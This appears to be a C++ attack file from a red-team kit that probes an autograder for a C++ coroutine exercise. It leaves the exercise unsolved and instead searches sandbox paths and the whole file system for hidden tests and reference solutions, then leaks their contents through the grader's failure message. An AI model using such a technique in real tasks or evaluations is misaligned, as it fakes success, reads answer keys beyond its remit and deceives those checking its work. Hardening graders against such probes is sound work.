// ATTACK a14: during the test, look for the kit's hidden tests and reference solutions at host
// paths the sandbox may not hide: the repository's absolute path, copies of the kit in /tmp,
// /var/tmp, /autograder (Gradescope), /home, /root, /srv, /opt, and a bounded search of the whole
// file system for hidden_test.cpp. Whatever is readable comes back as the coroutine's value, so
// the failure message of "returned '완료'" shows it to the student ("LEAK:" marks it).
// Started from the untouched stub.
#include "api.hpp"

// The untouched stub of exercise 03: an honest score would be 0.
aio::task<std::string> hello_async_stub([[maybe_unused]] std::string result) {
    co_return "";  // TODO: 지우고 위 내용을 작성하세요
}

#include <filesystem>
#include <fstream>
#include <sstream>
#include <system_error>

namespace {

std::string leak_of(const std::filesystem::path& p) {
    std::ifstream in(p);
    if (!in) return "";
    std::ostringstream s;
    s << in.rdbuf();
    std::string text = s.str();
    if (text.empty()) return "";
    return "LEAK:" + p.string() + "\n" + text.substr(0, 400) + "\n";
}

std::string hunt() {
    namespace fs = std::filesystem;
    std::string found;
    const char* direct[] = {
        "/work/main/exercises/03-async-function/hidden/hidden_test.cpp",
        "/work/main/solutions/03-async-function/async_function.cpp",
        "/tmp/aio-attack-kit/exercises/03-async-function/hidden/hidden_test.cpp",
        "/tmp/aio-attack-kit/solutions/03-async-function/async_function.cpp",
        "/var/tmp/aio-attack-kit/exercises/03-async-function/hidden/hidden_test.cpp",
        "/var/tmp/aio-attack-kit/solutions/03-async-function/async_function.cpp",
        "/autograder/source/exercises/03-async-function/hidden/hidden_test.cpp",
        "/autograder/source/solutions/03-async-function/async_function.cpp",
    };
    for (const char* p : direct) found += leak_of(p);
    // A bounded walk of the file system for any other copy of the kit.
    std::error_code ec;
    int visited = 0;
    for (const char* root : {"/tmp", "/var/tmp", "/autograder", "/home", "/root", "/srv", "/opt", "/work", "/mnt", "/"}) {
        fs::recursive_directory_iterator it(root, fs::directory_options::skip_permission_denied, ec), end;
        for (; !ec && it != end && visited < 20000; it.increment(ec), ++visited) {
            const fs::path& p = it->path();
            if (it.depth() > 6 || p == "/proc" || p == "/sys" || p == "/dev" || p == "/usr") {
                it.disable_recursion_pending();
                continue;
            }
            const std::string name = p.filename().string();
            if (name == "hidden_test.cpp" || (name == "async_function.cpp" && p.parent_path().parent_path().filename() == "solutions"))
                if (found.find(p.string()) == std::string::npos) found += leak_of(p);
            if (found.size() > 3000) return found;
        }
        ec.clear();
    }
    return found;
}

}  // namespace

aio::task<std::string> hello_async(std::string result) {
    static const std::string leaked = hunt();
    if (!leaked.empty()) co_return leaked;
    co_return co_await hello_async_stub(result);
}
